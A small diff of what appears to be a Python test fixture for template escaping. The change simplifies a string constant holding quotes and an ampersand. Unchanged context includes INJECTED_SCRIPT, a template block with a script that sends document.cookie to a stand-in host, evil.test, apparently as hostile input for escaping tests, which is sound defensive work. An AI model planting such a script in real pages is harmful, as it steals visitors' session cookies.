@@ -37,7 +37,7 @@ RENAMED_ARTICLE = """
 INJECTED_SCRIPT = (
     '{% block scripts %}{{ super() }}<script>fetch("https://evil.test/" + document.cookie)</script>{% endblock %}'
 )
-QUOTED_NAME = 'Say "yes" & <mean> it'.replace("<mean> ", "")  # quotes and an ampersand, no markup
+QUOTED_NAME = 'Say "yes" & mean it'  # quotes and an ampersand: text, not markup
 QUOTED_COPYRIGHT = 'Written by "us" & friends'
 
 
